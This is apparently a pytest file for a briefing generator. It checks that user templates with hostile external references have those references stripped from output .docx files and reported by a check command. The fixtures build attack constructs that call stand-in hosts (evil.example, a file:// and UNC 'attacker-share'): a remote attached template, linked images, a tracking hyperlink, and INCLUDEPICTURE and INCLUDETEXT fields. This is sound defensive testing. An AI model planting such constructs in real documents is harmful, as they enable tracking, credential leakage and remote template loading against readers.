"""Class 3: network references in output. A user template's reference.docx with external relationships
(a remote attached template, an image linked from a file:// share, a web link, fetching fields) must
produce briefings in which nothing points outside; ``templates --check`` must say what it removes."""

from __future__ import annotations

import zipfile
from pathlib import Path

import docx
import pytest
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.oxml import parse_xml

from briefgen.errors import TemplateError

HOSTS = ("evil.example", "attacker-share", "tracker.example")
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'


def _hostile_reference(path: Path, kinds: tuple[str, ...]) -> None:
    from briefgen.resources import templates_dir

    document = docx.Document(str(templates_dir() / "_base" / "reference.docx"))
    body = document.element.body
    if "attached template" in kinds:
        rid = document.part._settings_part.relate_to("http://evil.example/normal.dotm", "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate",
                                               is_external=True)
        document.settings.element.append(parse_xml(f'<w:attachedTemplate {W} {R} r:id="{rid}"/>'))
    if "linked image" in kinds:
        rid = document.part.relate_to("file://attacker-share/c$/x.png", RT.IMAGE, is_external=True)
        body.insert(0, parse_xml(
            f'<w:p {W} {R}><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:1pt">'
            f'<v:imagedata r:id="{rid}"/></v:shape></w:pict></w:r></w:p>'))
    if "hyperlink" in kinds:
        rid = document.part.relate_to("http://tracker.example/click", RT.HYPERLINK, is_external=True)
        body.insert(0, parse_xml(f'<w:p {W} {R}><w:hyperlink r:id="{rid}"><w:r><w:t>link</w:t></w:r>'
                                 '</w:hyperlink></w:p>'))
    if "INCLUDEPICTURE field" in kinds:
        body.insert(0, parse_xml(f'<w:p {W}><w:fldSimple w:instr=\'INCLUDEPICTURE "http://evil.example/p.png" '
                                 '\\d\'><w:r><w:t>pic</w:t></w:r></w:fldSimple></w:p>'))
    if "complex INCLUDETEXT field" in kinds:
        body.insert(0, parse_xml(
            f'<w:p {W}><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> '
            'INCLUDETEXT "\\\\\\\\attacker-share\\\\doc.docx" </w:instrText></w:r><w:r><w:fldChar '
            'w:fldCharType="end"/></w:r></w:p>'))
    if "header image link" in kinds:
        header = document.sections[0].header
        rid = header.part.relate_to("http://evil.example/logo.png", RT.IMAGE, is_external=True)
        header._element.append(parse_xml(
            f'<w:p {W} {R}><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:1pt">'
            f'<v:imagedata r:id="{rid}"/></v:shape></w:pict></w:r></w:p>'))
    document.save(str(path))


KINDS = ("attached template", "linked image", "hyperlink", "INCLUDEPICTURE field", "complex INCLUDETEXT field",
         "header image link")


def _template(user: Path, name: str) -> Path:
    folder = user / "templates" / name
    folder.mkdir(parents=True)
    (folder / "template.yaml").write_text(f"name: {name}\ndescription: {{id: Uji, en: Test}}\n"
                                          "sections: [key_points, sources]\n")
    (folder / "template.html.j2").write_text("<p>{{ doc.title }}</p>")
    return folder


def _all_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return " ".join(archive.read(n).decode("utf-8", "replace") for n in archive.namelist())


@pytest.mark.parametrize("kinds", [(k,) for k in KINDS] + [KINDS], ids=[*KINDS, "all together"])
def test_no_external_reference_reaches_a_briefing(kinds, attack_dir, sample_articles, tmp_path):
    from briefgen.pipeline import BuildOptions, make_briefing, make_document, write_outputs

    folder = _template(attack_dir, "hostile")
    _hostile_reference(folder / "reference.docx", kinds)
    assert any(host in _all_xml(folder / "reference.docx") for host in HOSTS)  # the attack is in place
    options = BuildOptions(template="hostile")
    briefing, template = make_briefing(sample_articles[:2], options)
    (out,) = write_outputs(make_document(briefing, template, options), template, [tmp_path / "b.docx"], options)
    xml = _all_xml(out)
    assert not [h for h in HOSTS if h in xml]
    assert 'TargetMode="External"' not in xml and "attachedTemplate" not in xml
    assert "Briefgen" in xml or "briefing" in xml.lower()  # the briefing itself is there
    docx.Document(str(out))  # and still opens


def test_templates_check_says_what_is_removed(attack_dir, capsys):
    from briefgen.cli import main

    folder = _template(attack_dir, "hostile")
    _hostile_reference(folder / "reference.docx", KINDS)
    assert main(["templates", "--check", str(folder)]) == 1
    out = capsys.readouterr().out
    assert "external reference removed" in out and "evil.example/normal.dotm" in out and "INCLUDEPICTURE" in out


def test_a_linked_reference_docx_is_refused(attack_dir, tmp_path, sample_articles):
    from briefgen.pipeline import BuildOptions, make_briefing, make_document, write_outputs

    folder = _template(attack_dir, "linked-ref")
    _hostile_reference(tmp_path / "elsewhere.docx", ("hyperlink",))
    (folder / "reference.docx").symlink_to(tmp_path / "elsewhere.docx")
    options = BuildOptions(template="linked-ref")
    briefing, template = make_briefing(sample_articles[:1], options)
    with pytest.raises(TemplateError, match="symbolic link"):
        write_outputs(make_document(briefing, template, options), template, [tmp_path / "b.docx"], options)
